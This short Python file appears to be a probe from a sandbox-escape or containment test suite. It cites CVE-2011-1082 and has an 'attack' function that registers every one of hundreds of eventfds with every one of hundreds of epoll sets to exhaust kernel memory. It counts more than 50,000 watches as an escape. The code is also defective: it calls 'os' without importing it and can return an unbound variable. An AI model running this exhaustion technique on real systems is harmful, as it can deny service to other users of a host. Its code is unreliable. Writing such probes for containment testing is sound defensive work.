"""Watch everything with everything.

origin: CVE-2011-1082 and the quadratic cost of nested sets
why: a watch is memory of the kernel's, and there can be as many as pairs of descriptors
control: succeeds
"""

import select


def attack(target):
    files, sets = [], []
    try:
        while len(files) < 260:
            files.append(os.eventfd(0))
            sets.append(select.epoll())
    except OSError as error:
        last = error
    watches = 0
    for one in sets:
        for file in files:
            one.register(file, select.EPOLLIN)
            watches += 1
    return escaped(f"{watches} watches") if watches > 50_000 else blocked("eventfd", last)
